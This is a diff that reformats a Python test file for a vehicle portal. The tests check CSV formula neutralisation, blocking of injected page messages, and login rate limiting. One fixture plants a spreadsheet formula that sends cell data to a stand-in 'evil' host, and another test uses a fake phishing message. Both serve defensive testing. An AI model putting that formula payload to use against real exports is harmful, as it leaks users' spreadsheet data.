@@ -24,8 +24,17 @@ def portal(tmp_path):
     url = f"sqlite:///{tmp_path / 'portal.db'}"
     create_sample_database(url, NOW, password_rounds=4)
     with session_scope(make_sessionmaker(make_engine(url))) as db:
-        db.add(Vehicle(vehicle_id="ORPHAN-1", model="=HYPERLINK(\"http://evil/?\"&A1,\"x\")", plate="@SUM(1)",
-                       status="active", archived=False, created_at=NOW, updated_at=NOW))
+        db.add(
+            Vehicle(
+                vehicle_id="ORPHAN-1",
+                model='=HYPERLINK("http://evil/?"&A1,"x")',
+                plate="@SUM(1)",
+                status="active",
+                archived=False,
+                created_at=NOW,
+                updated_at=NOW,
+            )
+        )
     return create_app(url, clock=lambda: NOW)
 
 
@@ -53,13 +62,20 @@ def test_csv_export_neutralises_spreadsheet_formulas(portal):
 def test_a_crafted_link_cannot_put_a_message_on_a_page(portal):
     sam = _client(portal, "sam")
     fake = "Your session expired: call +1 555 0100 with your password"
-    for url, params in (("/vehicles", {"error": fake}), ("/vehicles", {"ok": fake}),
-                        ("/vehicles", {"ok": fake, "sig": "abc"}), ("/login", {"error": fake})):
+    for url, params in (
+        ("/vehicles", {"error": fake}),
+        ("/vehicles", {"ok": fake}),
+        ("/vehicles", {"ok": fake, "sig": "abc"}),
+        ("/login", {"error": fake}),
+    ):
         assert fake not in sam.get(url, params=params).text, (url, params)
     # a message the portal signed for another session is not shown either
     page = sam.get("/vehicles/VAN-2")
-    refused = sam.post("/vehicles/VAN-2/odometer", data={"km": "10", "csrf_token": _csrf(page.text)},
-                       headers={"referer": "http://testserver/vehicles/VAN-2"})
+    refused = sam.post(
+        "/vehicles/VAN-2/odometer",
+        data={"km": "10", "csrf_token": _csrf(page.text)},
+        headers={"referer": "http://testserver/vehicles/VAN-2"},
+    )
     assert "is below the last reading" in sam.get(refused.headers["location"]).text
     assert "is below the last reading" not in _client(portal, "tim").get(refused.headers["location"]).text
 
@@ -88,16 +104,22 @@ def test_a_vehicle_without_a_dealer_is_not_shown_to_dealer_staff(portal):
 def test_password_guessing_is_slowed_down_on_login_and_token(portal):
     login = TestClient(portal, follow_redirects=False)
     token = _csrf(login.get("/login").text)
-    codes = [login.post("/login", data={"username": "ada", "password": f"guess{i}", "csrf_token": token})
-             .status_code for i in range(12)]
+    codes = [
+        login.post(
+            "/login", data={"username": "ada", "password": f"guess{i}", "csrf_token": token}
+        ).status_code
+        for i in range(12)
+    ]
     assert codes[:10] == [401] * 10 and codes[10:] == [429, 429]
     # the right password is refused too while the guesser is held back (the hash is not even checked)
     form = {"username": "ada", "password": password_for("ada"), "csrf_token": token}
     right = login.post("/login", data=form)
     assert right.status_code == 429 and "Retry-After" in right.headers
     api = TestClient(portal)
-    codes = [api.post("/api/token", data={"username": "dora", "password": f"guess{i}"}).status_code
-             for i in range(11)]
+    codes = [
+        api.post("/api/token", data={"username": "dora", "password": f"guess{i}"}).status_code
+        for i in range(11)
+    ]
     assert codes == [401] * 10 + [429]
     # the user herself, from another address, is not locked out by the guesser
     elsewhere = TestClient(portal, client=("192.0.2.7", 50000))
